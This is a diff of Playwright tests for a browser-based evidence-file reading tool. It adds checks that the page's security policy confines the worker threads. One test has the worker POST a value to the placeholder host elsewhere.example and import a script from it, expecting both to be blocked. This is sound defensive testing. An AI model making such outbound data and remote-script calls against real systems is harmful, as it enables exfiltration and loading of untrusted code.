@@ -143,7 +143,9 @@ describe('files that are not read at once', () => {
       );
       await page.getByRole('status').getByText('The files are read and counted. 4 not read.').waitFor();
       const told = (name: string) => fileEntry(page, name).locator('.refused').innerText();
-      expect(await told('locked.xlsx')).toMatch(/^Not read\. .*encrypted workbook.*password/s);
+      expect(await told('locked.xlsx')).toMatch(
+        /^Not read\. .*older \.xls form, or a locked one\..*without a password/,
+      );
       expect(await told('half.xlsx')).toMatch(/^Not read\. It ends too early/);
       expect(await told('nothing.csv')).toBe('Not read. nothing.csv is empty.');
       expect(await told('report.xls')).toContain('report.xls is a web page (HTML).');
@@ -221,8 +223,8 @@ describe('what the files hold', () => {
     // Chromium itself asks its maker how to fill forms, of any site with fields; the site has no part in it.
     const requests = proxy.requests.filter(({ url }) => url.host !== 'content-autofill.googleapis.com');
     const addresses = requests.map(({ url }) => url.href);
-    // The two workers, and what the second of them loads to read: nothing of them escaped the proxy.
-    for (const part of ['evidence-worker', 'evidence-reader', 'read-workbook', 'read-nessus']) {
+    // What the two workers load to read and to count: nothing of them escaped the proxy.
+    for (const part of ['evidence-thread', 'evidence-worker', 'read-workbook', 'read-nessus']) {
       expect(addresses.join('\n')).toContain(`${visit.origin}/_astro/${part}`);
     }
     const others = requests.filter(
@@ -238,6 +240,44 @@ describe('what the files hold', () => {
       expect(addresses.filter((address) => address.includes(secret))).toEqual([]);
     }
   });
+});
+
+describe('the threads that read and count', () => {
+  it('go by the policy of the page, which forbids them to ask another site for anything', async () => {
+    const { context } = await visit.profile();
+    try {
+      const page = await context.newPage();
+      await page.goto(`${visit.origin}/tools/triggers/`);
+      await giveSample(page);
+      const [thread, ...others] = page.workers();
+      expect(others).toEqual([]);
+      // As text: what compiles the tests would change the import into one of its own.
+      const refused = await thread?.evaluate<readonly string[]>(`(async () => {
+        const directives = [];
+        addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+        await fetch('https://elsewhere.example/', { method: 'POST', body: 'V-101' }).catch(() => {});
+        await import('https://elsewhere.example/a.js').catch(() => {});
+        return directives;
+      })()`);
+      expect(refused?.map((directive) => directive.replace('-elem', ''))).toEqual(['connect-src', 'script-src']);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('are started by their address where a host forbids to start them from text', () =>
+    useTool(visit, 'triggers', async ({ page }) => {
+      await page.evaluate(() => {
+        URL.createObjectURL = () => `${location.origin}/nothing-there.js`;
+      });
+      const sample = await downloadedSample(page);
+      await giveFiles(page, sample);
+      await counted(page);
+      expect(await numberOf(page, lateHigh)).toBe('6');
+    }).catch((error: Error) => {
+      // That nothing is at the address in its place is the only fault.
+      expect(error.message).toContain('nothing-there.js');
+    }));
 });
 
 describe('access to what the files come to', () => {
